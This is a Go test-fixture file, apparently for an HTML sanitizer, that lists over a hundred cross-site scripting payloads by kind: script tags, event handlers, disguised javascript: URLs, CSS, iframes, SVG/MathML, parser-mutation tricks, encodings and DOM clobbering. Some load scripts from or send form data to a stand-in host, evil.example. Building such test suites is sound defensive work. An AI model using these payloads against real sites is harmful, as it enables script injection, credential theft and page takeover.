package xsstest

import (
	"fmt"
	"strings"
)

// Payloads are pieces of HTML that run code, load it, take over the page or send something away when they are shown as
// they are, of all known kinds, some hundred.
func Payloads() []string {
	var all []string
	for _, list := range [][]string{
		elements(), handlers(), addresses(), styles(), frames(), forms(), foreign(), mutations(), broken(), encoded(), clobbering(),
	} {
		all = append(all, list...)
	}
	return all
}

func elements() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/src=data:,alert(1)></script>`,
		`<script type=module>import("//evil.example/x.js")</script>`, `<script type="text/vbscript">MsgBox 1</script>`,
		"<script\n>alert(1)</script\n>", `<script x>alert(1)</script x>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<<script>alert(1);//<</script>`, `<script>alert(1)`, `<script src=//evil.example/x.js`, `<script/xss>alert(1)</script/xss>`,
		`<script async defer crossorigin src=https://evil.example/></script>`, `<noscript><script>alert(1)</script></noscript>`,
		`<object data="javascript:alert(1)"></object>`, `<object data="//evil.example/x.swf" type="application/x-shockwave-flash"></object>`,
		`<object><param name=src value="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`,
		`<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<applet code=x archive=//evil.example/x.jar></applet>`,
		`<base href="javascript:alert(1)//">`, `<base href=//evil.example/>`, `<base target="_top">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
		`<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<meta http-equiv="Set-Cookie" content="a=b">`,
		`<link rel=stylesheet href="//evil.example/x.css">`, `<link rel=import href="//evil.example/x.html">`,
		`<link rel="prefetch" href="//evil.example/">`, `<link rel=stylesheet href="javascript:alert(1)">`, `<bgsound src="javascript:alert(1)">`,
		`<layer src="//evil.example/x.js"></layer>`, `<ilayer src="//evil.example/x.js"></ilayer>`, `<xml id=x><a><b>&lt;script>alert(1)</b></a></xml>`,
		`<portal src="https://evil.example/"></portal>`, `<fencedframe src="https://evil.example/"></fencedframe>`,
		`<template><script>alert(1)</script></template>`, `<template shadowrootmode=open><script>alert(1)</script></template>`,
		`<slot onslotchange=alert(1)></slot>`, `<xss onafterscriptexecute=alert(1)><script>1</script>`, `<isindex action=javascript:alert(1) type=image>`,
		`<plaintext/onload=alert(1)><script>alert(1)</script>`, `<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
		`<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>`, `<?xml-stylesheet href="javascript:alert(1)"?>`,
		`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]>&a;`,
	}
}

// handlers are event handlers on many elements, in many ways of writing an attribute.
func handlers() []string {
	all := []string{
		`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img src=x\nonerror\n=\nalert(1)>", "<img\tsrc=x\tonerror=\"alert(1)\">",
		`<img src="x" ONERROR='alert(1)'>`, "<img src=x onerror=`alert(1)`>", `<img src=x:alert(alt) onerror=eval(src) alt=1>`,
		`<img """><script>alert(1)</script>">`, `<img src=x onerror="&#97;lert(1)">`, `<img src='x' 'onerror=alert(1)'>`,
		"<img src=x o\x00nerror=alert(1)>", "<img src=x onerror\x0B=alert(1)>", "<img\x0Csrc=x\x0Conerror=alert(1)>", `<img src=x onerror=alert(1)//`,
		`<img src=x alt="<img src=x onerror=alert(1)>">`, `<img src=x alt="--><img src=x onerror=alert(1)>">`, `<img src=x onerror=alert(1) onerror=alert(2)>`,
	}
	events := []string{"onload", "onclick", "onmouseover", "onfocus autofocus tabindex=1", "onanimationstart", "ontoggle open", "onpointerrawupdate",
		"onbeforetoggle", "onwheel", "oncontentvisibilityautostatechange", "onscrollend", "onbegin", "onwebkittransitionend"}
	tags := []string{"a", "p", "div", "b", "video", "audio", "details", "table", "td", "li", "blockquote", "figure", "iframe", "picture", "source", "h2", "marquee", "body", "input", "svg"}
	for i, tag := range tags {
		event, more, _ := strings.Cut(events[i%len(events)], " ")
		all = append(all, fmt.Sprintf("<%s %s=alert(1) %s>x</%s>", tag, event, more, tag))
	}
	return append(all,
		`<video><source onerror="alert(1)"></video>`, `<video poster=javascript:alert(1)></video>`, `<audio src=x onerror=alert(1)></audio>`,
		`<video src=x onloadstart=alert(1)></video>`, `<details open ontoggle=alert(1)><summary>x</summary></details>`,
		`<a href="https://a.example/" on-click=x onclick=alert(1)>x</a>`, `<p/onclick=alert(1)>x`, `<x onclick=alert(1)>x</x>`,
		`<a is=x onx=1 xmlns:xlink=x xlink:href=javascript:alert(1)>x</a>`, `<track onerror=alert(1) src=x>`)
}

// addresses are URLs that run code, in all attributes that take a URL and all disguises.
func addresses() []string {
	disguises := []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "  javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)",
		"\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "javascript\t:alert(1)", "java&#x09;script:alert(1)", "java&Tab;script:alert(1)",
		"java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)", "&#0000106javascript:alert(1)",
		"javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/", "javascript://evil.example/%0Aalert(1)", "vbscript:msgbox(1)",
		"livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
		"jar:https://evil.example/x!/", "file:///etc/passwd", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "about:blank",
		"\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "java\x00script:alert(1)", "ms-its:x", "intent:x",
	}
	var all []string
	for i, d := range disguises {
		all = append(all, `<a href="`+d+`">x</a>`)
		switch i % 6 {
		case 0:
			all = append(all, `<img src="`+d+`">`)
		case 1:
			all = append(all, `<iframe src="`+d+`"></iframe>`)
		case 2:
			all = append(all, `<video poster="`+d+`" src="`+d+`"></video>`)
		case 3:
			all = append(all, `<blockquote cite="`+d+`">x</blockquote>`)
		case 4:
			all = append(all, `<img data-src="`+d+`" srcset="`+d+` 1x, https://a.example/b 2x">`)
		default:
			all = append(all, `<picture><source srcset="`+d+`"><img src=https://a.example/b.png></picture>`)
		}
	}
	return append(all,
		`<a href=javascript:alert(1)>x`, `<a href=" &#14;  javascript:alert(1)">x</a>`, `<a href="//evil.example/" target=_top ping=//evil.example/>x</a>`,
		`<area href=javascript:alert(1) shape=default>`, `<map name=x><area href=javascript:alert(1)></map><img usemap=#x src=x>`,
		`<body background="javascript:alert(1)">`, `<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>`,
		`<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`, `<q cite=javascript:alert(1)>x</q>`, `<a href="http://a.example/" href=javascript:alert(1)>x</a>`)
}

func styles() []string {
	return []string{
		`<style>@import "//evil.example/x.css";</style>`, `<style>body{background:url(javascript:alert(1))}</style>`, `<STYLE>li{list-style-image:url("javascript:alert(1)")}</STYLE><ul><li>x</ul>`,
		`<p style="background:url(javascript:alert(1))">x</p>`, `<p style="width:expression(alert(1))">x</p>`, `<p style="x:exp/**/ression(alert(1))">x</p>`,
		`<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>`, `<p style="behavior:url(x.htc)">x</p>`, `<a style="position:fixed;inset:0;opacity:0" href=//evil.example/>x</a>`,
		`<p style="background:\75rl(javascript:alert(1))">x</p>`, `<font style="animation-name:x" onanimationend=alert(1)>x</font>`, `<style><img src="</style><img src=x onerror=alert(1)>">`,
		`<style><!--</style><img src=x onerror=alert(1)>--></style>`, "<style>*{x:\\</style><script>alert(1)</script>", `<p style='x:"</style><script>alert(1)</script>"'>x`,
	}
}

func frames() []string {
	return []string{
		`<iframe src=//evil.example/></iframe>`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;" src=https://www.youtube.com/embed/1></iframe>`, `<iframe src="https://youtube.com.evil.example/embed/1"></iframe>`,
		`<iframe src="https://evil.example/?youtube.com"></iframe>`, `<iframe src="https://youtube.com@evil.example/"></iframe>`, `<iframe src="https://www.youtube.com/embed/1" onload=alert(1)></iframe>`,
		`<iframe><script>alert(1)</script></iframe>`, `<iframe src="x"><img src=x onerror=alert(1)></iframe><img src=x onerror=alert(1)>`, `<iframe/src="data:text/html,<script>alert(1)</script>"/>`,
		`<iframe src="https://www.youtube.com/embed/1"><!--</iframe><img src=x onerror=alert(1)>-->`, `<iframe name="alert(1)" src="javascript:eval(name)"></iframe>`,
		`<iframe src="https://evil.example\@www.youtube.com/"></iframe>`, `<iframe src="https:evil.example"></iframe>`, `<iframe src="https://www.youtube.com:x/"></iframe>`,
	}
}

func forms() []string {
	return []string{
		`<form action="javascript:alert(1)"><input type=submit></form>`, `<form action=//evil.example/><input name=password type=password></form>`,
		`<button form=x formaction=javascript:alert(1)>x</button>`, `<input type=image src=x onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
		`<isindex type=image src=1 onerror=alert(1)>`, `<select onfocus=alert(1) autofocus><option>x</select>`, `<textarea onfocus=alert(1) autofocus>x</textarea>`,
		`<keygen autofocus onfocus=alert(1)>`, `<form id=x></form><button form=x formaction=//evil.example/>x</button>`, `<label for=x onclick=alert(1)>x</label>`,
		`<fieldset onclick=alert(1)><legend>x</legend></fieldset>`, `<input popovertarget=x onbeforetoggle=alert(1)>`, `<output onclick=alert(1)>x</output>`,
	}
}

func foreign() []string {
	return []string{
		`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><script>alert(1)</script></svg>`, `<svg><script href="data:,alert(1)"/></svg>`, `<svg><script>alert&#40;1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" /></svg>`,
		`<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`, `<svg><image href=x onerror=alert(1)></svg>`, `<svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>`,
		`<svg><style>*{background:url(javascript:alert(1))}</style></svg>`, `<svg><desc><script>alert(1)</script></desc></svg>`, `<svg><title><script>alert(1)</script></title></svg>`,
		`<math href="javascript:alert(1)">x</math>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`, `<svg><p><img src=x onerror=alert(1)>`, `<svg></p><script>alert(1)</script>`, `<image src=x onerror=alert(1)>`,
	}
}

// mutations are harmless as they are parsed first, and not when what was rendered is parsed again.
func mutations() []string {
	const img = `<img src=x onerror=alert(1)>`
	all := []string{
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><style><a title="</style><img src=x onerror=alert(1)>"></a></style></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noscript><style></noscript><img src=x onerror=alert(1)></style>`, `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
		`<title><p title="</title><img src=x onerror=alert(1)>"></title>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
		`<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`, `<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>`, `<style><p title="</style><img src=x onerror=alert(1)>"></style>`,
		`<script><p title="</script><img src=x onerror=alert(1)>"></script>`, `<select><option><style></option></select>` + img + `</style>`, `<select><iframe></select>` + img + `</iframe>`,
		`<template><style></template>` + img + `</style>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--a--!><img src=x onerror=alert(1)>-->`, `<!---><img src=x onerror=alert(1)>-->`, `<!-- <!-- --> ` + img + ` -->`,
		`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`, `<math><![CDATA[</math><img src=x onerror=alert(1)>]]>`, `<?x ><img src=x onerror=alert(1)>?>`, `</ x="><img src=x onerror=alert(1)>">`,
		`<p><svg><foreignObject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>`, `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></style>`,
		`<table><td><svg><desc><td></desc><style><a title="</style><img src=x onerror=alert(1)>">`, `<a><table><a><img title="</a></table><img src=x onerror=alert(1)>">`, `<table><a><caption><select><style></select>` + img,
		"<a title='`" + img + "`'>x</a>", `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<plaintext>` + img, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
		`<a href="https://a.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>`, `<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src=https://a.example/>`, `<p lang="en&quot; onclick=&quot;alert(1)">x</p>`,
		`<b><p><i></b><script>alert(1)</script></i>`, `<dl><dt><dd><svg><dt><style></dt>` + img + `</style>`, `<font face="x` + "\x00" + `"><style>` + img + `</font></style>`,
	}
	for _, depth := range []int{10, 300, 513} { // where parsers flatten what is nested too deep
		all = append(all, strings.Repeat("<div>", depth)+`<svg><style><a title="</style><img src=x onerror=alert(1)>">`,
			strings.Repeat("<b>", depth)+`<math><mtext><style><a title="</style><img src=x onerror=alert(1)>">`)
	}
	return all
}

func broken() []string {
	return []string{
		`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
		`]]></content:encoded><script>alert(1)</script>`, `</p></div></td></table><script>alert(1)</script>`, `<p title="x><script>alert(1)</script>`, `<p title='x><img src=x onerror=alert(1)>`, `<a href="x' onclick='alert(1)">x</a>`,
		"<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", `< script>alert(1)</ script>`, `<` + "\u017f" + `cript>alert(1)</script>`, `<script>alert(1)</scrıpt>`, `<a/href="javascript:alert(1)"/x`, `<img src="x` + "`" + `><script>alert(1)</script>"` + "`" + `>`,
		`<svg/><script/>alert(1)</script>`, `<p <script>alert(1)</script>>x</p>`, `<"script">alert(1)</script>`, `<!<script>alert(1)</script>`, `<%<img src=x onerror=alert(1)>%>`, `{{constructor.constructor('alert(1)')()}}`,
	}
}

func encoded() []string {
	return []string{
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`,
		`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "\xbcscript\xbealert(1)\xbc/script\xbe", "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", "<img src=x onerror=alert(1)\xff>", "<img alt=\"\xf1\" src=\"x\" onerror=\"alert(1)\">",
		"\u2028<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, "<p title=\"&#0;&#11;&#xFFFE;&#xD800;\">&#0;&#11;&#xFFFE;&#xD800;</p>",
	}
}

// clobbering takes the names that scripts of a page look for.
func clobbering() []string {
	return []string{
		`<a id=location href="https://evil.example/">x</a>`, `<img name=cookie src=https://a.example/>`, `<form id=x><input name=attributes></form>`, `<a id=x><a id=x name=y href="https://evil.example/">x</a>`, `<p id=__proto__ class=constructor>x</p>`,
		`<a href="https://a.example/" target="opener" rel=opener>x</a>`, `<div contenteditable onbeforeinput=alert(1)>x</div>`, `<p accesskey=x onclick=alert(1) tabindex=0>x</p>`,
	}
}
